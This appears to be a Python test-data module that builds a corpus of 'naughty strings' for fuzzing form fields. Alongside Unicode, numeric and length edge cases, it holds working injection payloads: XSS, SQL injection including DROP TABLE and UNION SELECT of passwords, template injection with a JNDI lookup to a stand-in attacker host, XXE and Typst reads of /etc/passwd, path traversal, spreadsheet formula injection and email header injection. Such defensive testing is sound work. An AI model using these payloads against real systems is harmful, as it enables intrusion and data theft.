"""Strings that have broken other people's programs, made here family by family: what is typed into every field."""

from collections.abc import Iterator, Mapping

# What ends the place a text may stand in, and what somebody would like to stand behind it.
_ENDINGS = ("", '"', "'", '">', "'>", "</textarea>", "</title>", "</p>", "-->", "</style>", "]]>", '"/>')
_INTRUDERS = (
    "<script>intruder(1)</script>",
    "<img src=x onerror=intruder(1)>",
    "<svg/onload=intruder(1)>",
    "<iframe srcdoc='<b>intruder'></iframe>",
    "<a href=javascript:intruder(1)>intruder</a>",
    "<intruder onfocus=alert(1) autofocus tabindex=1>",
    "<style>*{display:none}</style>",
    "<base href=//intruder.example/>",
)
_ATTRIBUTES = (
    '" onmouseover="intruder(1)',
    "' onfocus='intruder(1)' x='",
    "` onload=`intruder(1)`",
    " onblur=intruder(1) ",
)
_MARKUP = (
    "&lt;script&gt;intruder(1)&lt;/script&gt;",
    "&#60;script&#62;intruder(1)&#60;/script&#62;",
    "\u2039script\u203aintruder(1)\u2039/script\u203a",
    "\uff1cscript\uff1eintruder(1)\uff1c/script\uff1e",
    "<<SCRIPT>intruder(1);//<</SCRIPT>",
    "<scr<script>ipt>intruder(1)</scr</script>ipt>",
    "<ScRiPt\n>intruder(1)</ScRiPt\t>",
    "<!--#exec cmd='ls'-->",
    "<?php echo 1 ?>",
    "<![CDATA[<intruder>]]>",
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "&amp;&nbsp;&copy;&#0;&#x110000;",
    "<",
    ">",
    "&",
    "</",
    "<a",
    "<!",
)
_TEMPLATES = (
    *(
        "{{ 7*7 }}",
        "{{ settings.SECRET_KEY }}",
        "{% debug %}",
        "{% include 'base.html' %}",
        "{# nothing #}",
        "{{",
        "%}",
    ),
    *("${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "{reference}", "%(reference)s", "%s%n%d", "%", "%%", "$name"),
    *("${jndi:ldap://intruder.example/a}", "`id`", "$(id)", "\\u0041", "\\x41", "\\", "\\n", "\\0", "'+7*7+'"),
)
_TYPST = (
    *('#read("/etc/passwd")', '#include "x.typ"', "#panic()", "#let x = 1", "$ sum_(i=0) $", "@source", "<label>"),
    *("*bold* _slanted_ `raw`", "= Heading", "- list", "// comment", "/* comment", "[", "]", "#[", "~", "--- --"),
)
_SQL = (
    *("'", "''", '"', "';--", "1;DROP TABLE requests_app_case", "'; DROP TABLE requests_app_case; --", "1' OR '1'='1"),
    *('" OR ""="', "1 UNION SELECT password FROM auth_user", "admin'--", "%' OR 1=1 --", "_", "%_%", "LIKE '%'"),
    *("1/0", "sleep(5)", "pg_sleep(5)", "E'\\x00'", "$$", "$1", "?", ":name", "\\'; --", "NULL", "0x27", "char(39)"),
)
_SHEETS = (
    *('=cmd|" /C calc"!A0', "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "=HYPERLINK(0)", "|calc", "=", "+", "-", "@"),
    *(";", ",", '";"', "a;b;c", '"a""b"', "'=1+1", "\uff1d1+1", " =1+1"),
)
_HEADERS = (
    *("x\r\nBcc: bertil@example.org", "x\nBcc: bertil@example.org", "x\rBcc: b@example.org", "%0d%0aBcc:b@example.org"),
    *(
        "x\u2028Bcc: b@example.org",
        "x\x85Bcc: b@example.org",
        "\r\n\r\n<html>",
        "=?utf-8?q?intruder?=",
        "Re: [x] =?x?=",
    ),
    *("From intruder", ".", "\r\n.\r\n", "\nDATA\n", "Content-Type: text/html", "x\r\n\tfolded", "a: b"),
)
_PLACES = (
    *("../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\CON", "file:///etc/passwd", "~", "."),
    *("..", "/", "//", "\\\\server\\share", "CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "a/b", "a\\b", "-rf", "--help"),
    *("%2e%2e%2f", "%c0%ae%c0%ae/", "..%00/", "x.jpg%00.exe", ".htaccess", "desktop.ini", "x" * 255, "x." * 120),
)
_PERCENT = ("%00", "%ff", "%ed%a0%80", "%c0%80", "%fe%ff", "%u0000", "%", "%zz", "%25%30%30", "+", "%2B", "a=b&c=d")
_URLS = (
    *(
        "http://intruder.example/",
        "//intruder.example",
        "https://a:b@intruder.example:1/?q=1#f",
        "javascript:intruder(1)",
    ),
    *(
        "data:text/html,<script>intruder(1)</script>",
        "vbscript:x",
        "\x01javascript:intruder(1)",
        "mailto:a@example.com",
    ),
    *("www.intruder.example", "http://[::1]/", "http://xn--n3h.example/", "tel:+46701740605"),
)
_WORDS = (
    *("undefined", "undef", "null", "NULL", "(null)", "nil", "NIL", "None", "none", "true", "True", "false", "False"),
    *("NaN", "Infinity", "-Infinity", "inf", "hasOwnProperty", "__proto__", "constructor", "__class__", "this", "self"),
    *("then", "admin", "root", "test", "[]", "{}", "()", "[object Object]", "function(){}", "eval", "Scunthorpe"),
    *("Lightwater", "Penistone", "Null", "Test Testsson", "N/A", "-", "--", "---", "...", "???", "!!!", "#", "*"),
)
_NUMBERS = (
    *(
        "0",
        "1",
        "-1",
        "00",
        "01",
        "1.00",
        "$1.00",
        "1/2",
        "1E2",
        "1E02",
        "1E+02",
        "-1.00",
        "1,000.00",
        "1 000,00",
        "1'000",
    ),
    *("0x0", "0xffffffff", "0xabad1dea", "0b1", "0o7", "2147483647", "2147483648", "-2147483648", "4294967296"),
    *("9223372036854775807", "9223372036854775808", "-9223372036854775809", "1e999", "1e-999", "-0", "+0", "0.0/0"),
    *(
        "123456789012345678901234567890123456789",
        "9" * 5_000,
        "0." + "1" * 400,
        "08",
        "09",
        "1_000",
        "١٢٣٤٥٦٧٨٩٠",
        "１２３",
    ),
    *("−1", "½", "²", "Ⅷ", "一二三", "٠", "᠐", "𝟘𝟙𝟚", "1\u00a0000", "2147483647.1"),
)
_LETTERS = (
    *("åäöÅÄÖ", "A\u030a", "\u212b", "ß", "ẞ", "ﬁ", "ŉ", "ǰ", "İ", "ı", "ſ", "ς", "Ω", "µ", "½⅓", "⁰⁴⁵", "₀₁₂", "œÆ"),
    *(
        "田中さんにあげて下さい",
        "社會科學院語學研究所",
        "찦차를 타고 온",
        "𠜎𠜱𠝹𠱓",
        "パーティーへ",
        "ทดสอบ",
        "हिन्दी",
        "தமிழ்",
        "ქართული",
    ),
    *("ĀāĂă", "Ёлки", "Հայերեն", "አማርኛ", "ᚠᛇᚻ", "ﬀﬃ", "Ⱥ", "Ⱦ", "𝒜𝓃𝓃𝒶", "🅰🅽🅽🅰", "ʇǝsuoɔ", "ＡＮＮＡ", "ḀṶ", "ｶﾞ", "각"),
    *(
        "„citat“",
        "‘a’",
        "“b”",
        "«c»",
        "…",
        "‰",
        "¡™£¢∞§¶•ªº–≠",
        "œ∑´®†¥¨ˆøπ",
        "ÅÍÎÏ˝ÓÔ\uf8ff",
        "`⁄€‹›ﬁﬂ‡°·‚—±",
        '<>?:"{}|_+',
        ",./;'[]\\-=",
    ),
    *("!@#$%^&*()`~", "\u0378", "\u0e33\u0e33", "\ufdfa", "\ufdfd", "\u3164", "\u115f", "\u1160", "\uffa0", "\u2800"),
)
_RIGHT_TO_LEFT = (
    *("ثم نفس سقطت", "אבגדה", "הָיְתָהtestالصفحات", "مُنَاقَشَةُ سُبُلِ", "\u200fאבג", "\u061cابج", "שלום Anna 123", "123 שלום"),
)
_EMOJI = (
    *(
        "😍",
        "👩🏽",
        "👾 🙇 💁",
        "🐵 🙈 🙉",
        "❤️ 💔",
        "✋🏿 💪🏿",
        "👨‍👩‍👦 👨‍👩‍👧‍👦",
        "🏴‍☠️",
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "0️⃣ 1️⃣",
    ),
    *(
        "🇸🇪",
        "🇸🇪🇸",
        "🇺🇸🇷🇺🇸",
        "👩‍👩‍👧‍👧" * 20,
        "\u200d",
        "\ufe0f",
        "❤\ufe0e",
        "🫠",
        "🧑\u200d🦽\u200d➡\ufe0f",
        "ʕ•ᴥ•ʔ",
        "(｡◕‿◕｡)",
        "¯\\_(ツ)_/¯",
        "(╯°□°)╯ ┻━┻",
        "⚠",
        "㊙",
    ),
)
_ZALGO = tuple(
    "".join(sign + mark * times for sign in "Anna") for mark in "\u0300\u0336\u0489\u20dd" for times in (1, 8, 60)
)
_HUGE = (
    "a" * 201,
    "a" * 501,
    "a" * 10_001,
    "å" * 10_500,
    "a " * 4_000,
    "\n" * 9_000,
    "(" * 3_000,
    "<" * 3_000,
    "﷽" * 300,
    "a@b" * 5_000,
    "&" * 4_000,
    "🏳️‍🌈" * 200,
)
_ADDRESSES = (
    *(
        '"a b"@example.com',
        "a@b",
        "a@@example.com",
        "@example.com",
        "a@",
        "a@example",
        "a@-example.com",
        "a@[127.0.0.1]",
    ),
    *(
        "a@example..com",
        "a@exämple.com",
        "ä@example.com",
        "a@xn--exmple-cua.com",
        "<a@example.com>",
        "a@example.com,b@example.com",
    ),
    *(
        "a@example.com\x00b",
        "a" * 65 + "@example.com",
        "a@" + "b" * 250 + ".com",
        "a(b)@example.com",
        "a+b@example.com",
        "A@EXAMPLE.COM",
    ),
    *(
        "+46701740605",
        "0701740605;ext=1",
        "(070) 174 06 05",
        "+",
        "++46",
        "0" * 60,
        "556036-0793",
        "19811218-9876",
        "000000-0000",
    ),
)
_SPACES = tuple(
    f"a{sign}b"
    for sign in "\t\u00a0\u1680\u2000\u2003\u2009\u2028\u2029\u202f\u205f\u3000\ufeff\u180e\u00ad\u200b\u200c\u2060"
)
_MARKS = tuple(f"a{sign}b" for sign in "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
_CONTROLS = tuple(f"a{chr(number)}b" for number in (*range(0x20), *range(0x7F, 0xA0)))
_NO_SIGNS = (
    "\ufffe",
    "\uffff",
    "\ufdd0",
    "\U0001fffe",
    "\U0010ffff",
    "\ue000",
    "\U000f0000",
    "\ufffd",
    "\ufff9a\ufffab\ufffb",
)
_NOTHING = ("", " ", "\t\n", "\u00a0", "\u3000", "\u200b")

FAMILIES: Mapping[str, tuple[str, ...]] = {
    "markup": (*(f"{end}{intruder}" for end in _ENDINGS for intruder in _INTRUDERS), *_ATTRIBUTES, *_MARKUP),
    "templates": _TEMPLATES,
    "typst": _TYPST,
    "sql": _SQL,
    "sheets": _SHEETS,
    "headers": _HEADERS,
    "places": _PLACES,
    "percent": _PERCENT,
    "urls": _URLS,
    "words": _WORDS,
    "numbers": _NUMBERS,
    "letters": _LETTERS,
    "right to left": _RIGHT_TO_LEFT,
    "emoji": _EMOJI,
    "zalgo": _ZALGO,
    "huge": _HUGE,
    "addresses": _ADDRESSES,
    "spaces": _SPACES,
    "marks": _MARKS,
    "controls": _CONTROLS,
    "no signs": _NO_SIGNS,
    "nothing": _NOTHING,
}


def _each() -> Iterator[str]:
    for family in FAMILIES.values():
        yield from family


NAUGHTY = tuple(dict.fromkeys(_each()))
